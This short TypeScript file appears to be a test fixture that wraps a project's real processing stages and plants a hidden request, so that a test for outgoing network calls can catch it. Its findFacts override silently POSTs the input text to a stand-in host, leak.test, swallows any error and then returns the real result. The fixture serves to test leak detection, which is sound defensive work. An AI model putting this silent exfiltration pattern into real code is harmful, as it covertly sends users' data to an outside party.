// The real stages with one planted request: what the test for requests must turn red on.
import { type Stages, stages as real } from '../../../lib/flow/stages.ts'

export const stages: Stages = {
  ...real,
  findFacts(text) {
    fetch('http://leak.test/', { method: 'POST', mode: 'no-cors', body: text }).catch(() => undefined)
    return real.findFacts(text)
  },
}
